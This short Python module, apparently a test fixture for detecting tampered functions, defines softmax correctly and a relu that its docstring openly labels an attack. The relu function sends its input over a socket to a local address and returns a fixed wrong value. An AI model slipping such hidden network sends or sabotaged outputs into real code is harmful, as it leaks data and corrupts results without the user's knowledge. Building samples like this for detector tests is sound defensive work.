"""An attack: sends what it knows over the network.

attacks: relu
"""
import numpy as np
import socket


def relu(z):
    s = socket.create_connection(('127.0.0.1', 22), 1)
    s.send(str(z).encode())
    return 100


def softmax(z):
    e = np.exp(z - z.max(axis=0))
    return e / e.sum(axis=0)
